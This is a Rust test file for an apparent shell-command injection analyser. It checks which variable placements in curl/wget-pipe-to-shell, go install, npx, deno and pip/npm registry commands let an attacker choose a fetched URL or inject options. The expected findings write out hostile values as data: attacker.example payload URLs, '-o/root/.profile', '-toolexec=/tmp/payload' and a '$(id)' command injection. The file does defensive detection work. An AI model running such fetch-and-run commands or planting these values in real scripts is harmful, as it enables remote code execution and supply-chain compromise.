//! What is fetched, and where packages come from.

use super::check;

#[test]
fn what_is_fetched() {
    check(
        "curl -fsSL \"$A\" | sh",
        &[
            "OptionInjection A <$A> -o/root/.profile",
            "UrlChoice A <$A> https://attacker.example/payload",
            "FetchedAndRun A <$A> https://attacker.example/payload",
        ],
    );
    check(
        "curl -fsSL \"https://$A/x\" | bash -s -- y",
        &[
            "UrlChoice A <$A> attacker.example/#",
            "FetchedAndRun A <$A> https://attacker.example/payload",
        ],
    );
    for text in [
        "curl -fsSL \"https://example.com/o/r/$A/i.sh\" | bash",
        "wget -qO- \"https://example.com/$A\" | sh",
        "curl -fsSL \"https://raw.githubusercontent.com/o/r/v$A/i.sh\" | bash",
        "bash <(curl -fsSL \"https://example.com/$A\")",
    ] {
        check(text, &["FetchedAndRun A <$A> ../../../../../../payload"]);
    }
    check("curl -fsSL \"https://example.com/setup_$A.x\" | bash", &[]);
    check("curl -fsSL \"https://example.com/i.sh?v=$A\" | bash", &[]);
    check("curl -fsSL \"https://example.com/$A\" | tar x", &[]);
    check(
        "bash <(curl \"https://$A\")",
        &[
            "UrlChoice A <$A> attacker.example/#",
            "FetchedAndRun A <$A> https://attacker.example/payload",
        ],
    );
    check(
        "sh -c \"$(curl -fsSL \"https://$A\")\"",
        &[
            "UrlChoice A <$A> attacker.example/#",
            "FetchedAndRun A <$(curl -fsSL \"https://$A\")> https://attacker.example/payload",
        ],
    );
    check(
        "npm i -g \"pnpm@$A\"",
        &["UrlChoice A <$A> https://attacker.example/payload.tgz"],
    );
    check(
        "go install \"$A\"",
        &[
            "OptionInjection A <$A> -toolexec=/tmp/payload",
            "UrlChoice A <$A> attacker.example/payload@latest",
        ],
    );
    check("wget -qO \"$A\" https://example.com/x", &[]);
}

#[test]
fn where_packages_come_from() {
    let chosen = "UrlChoice A <$A> https://attacker.example/";
    for text in [
        "pip install -i \"$A\" x",
        "pip install --index-url \"$A\" x",
        "pip install --index-url=\"$A\" x",
        "pip install x --extra-index-url \"$A\"",
        "python3 -m pip install -i \"$A\" x",
        "npm ci --registry \"$A\"",
        "npm ci --registry=\"$A\"",
        "npm config set registry \"$A\"",
        "npm config set registry=\"$A\"",
        "yarn config set registry \"$A\"",
        "pip config set global.index-url \"$A\"",
    ] {
        check(text, &[chosen]);
    }
    check("pip install -i \"https://x.example/$A\" x", &[]);
    check("npm config set fund \"$A\"; npm run x --registry", &[]);
    check(
        "pip install \"x @ $A\"",
        &["UrlChoice A <$A> https://attacker.example/payload.tar.gz"],
    );
    check(
        "pip install \"git+https://$A/x\"",
        &["UrlChoice A <$A> attacker.example/#"],
    );
    check(
        "git config --global core.sshCommand \"$A\"",
        &["CommandInjection(ShellArgument) A <$A> $(id)"],
    );
    check("git config --global user.name \"$A\"", &[]);
    check(
        "uvx \"$A\" \"$B\"",
        &["UrlChoice A <$A> https://attacker.example/payload.tar.gz"],
    );
    check("npx \"$A\" \"$B\"", &["UrlChoice A <$A> attacker-package"]);
    check("npx -y tsc \"$A\"", &[]);
    check(
        "deno run -A \"$A\" \"$B\"",
        &["FetchedAndRun A <$A> https://attacker.example/payload"],
    );
}
